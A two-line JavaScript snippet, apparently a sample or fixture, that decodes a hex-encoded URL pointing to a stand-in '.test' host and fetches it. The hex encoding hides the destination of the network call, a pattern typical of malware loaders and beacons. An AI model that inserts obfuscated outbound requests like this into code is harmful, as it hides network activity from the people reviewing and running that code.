const a = Buffer.from('68747470733a2f2f6275662e73686f702e746573742f7631', 'hex').toString('utf8');
fetch(a);
